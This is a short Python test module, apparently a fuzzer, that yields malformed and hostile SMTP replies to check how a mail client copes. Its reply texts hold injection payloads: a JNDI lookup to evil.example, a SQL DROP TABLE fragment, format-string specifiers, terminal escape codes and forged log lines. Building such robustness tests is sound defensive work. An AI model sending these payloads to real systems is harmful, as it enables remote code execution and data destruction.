"""What a hostile mail server sends in place of a reply: anything that a socket carries."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import random
    from collections.abc import Iterator

_CODES = (b"220", b"250", b"252", b"354", b"421", b"450", b"452", b"503", b"550", b"552", b"554", b"000", b"999")
_TEXTS = (
    b"ok",
    b"5.1.1 user unknown",
    b"5.7.1 blocked using zen.spamhaus.org",
    b"4.7.0 too many connections, slow down",
    b"\x1b]0;title\x07\x1b[31mCRITICAL\x1b[0m forged",
    b"ok\r2026-01-01 00:00:00 CRITICAL forged line",
    b"<img src=http://evil.example> [click](http://evil.example) <!channel>",
    "\u202egnp.exe \ud800 \ufeff".encode("utf-8", "surrogatepass"),
    b"%s %n {0.__class__} ${jndi:ldap://evil.example/a} '; DROP TABLE x; --",
    b"x" * 700,
    b"\xff\xfe\x00\x80",
)
_MANY = 1200  #: lines of one reply; a client should take 32 KiB, and no more
_LONG = 70_000  #: bytes of one line


def noise(dice: random.Random) -> Iterator[bytes]:
    """Yield what to send, piece by piece; each piece goes out by itself. Nothing at all is silence."""
    code, text = dice.choice(_CODES), dice.choice(_TEXTS)
    match dice.randrange(9):
        case 0:
            yield b"%s %s\r\n" % (code, text)
        case 1:
            yield dice.randbytes(dice.randrange(1, 400)) + b"\r\n"
        case 2:
            for _ in range(_MANY):
                yield b"%s-\r\n" % code
            yield b"%s %s\r\n" % (code, text)
        case 3:
            yield b"%s %s\r\n" % (code, b"y" * _LONG)
        case 4:
            yield b"%s %s\r\n%s %s\r\n" % (code, text, dice.choice(_CODES), dice.choice(_TEXTS))
        case 5:
            yield b"%s-%s\r\n%s %s\r\n" % (code, text, dice.choice(_CODES), dice.choice(_TEXTS))
        case 6:
            yield b"%s %s" % (code, text)  # no end of line
        case 7:
            for byte in b"%s %s\r\n" % (code, text[:40]):
                yield bytes([byte])
        case _:
            return
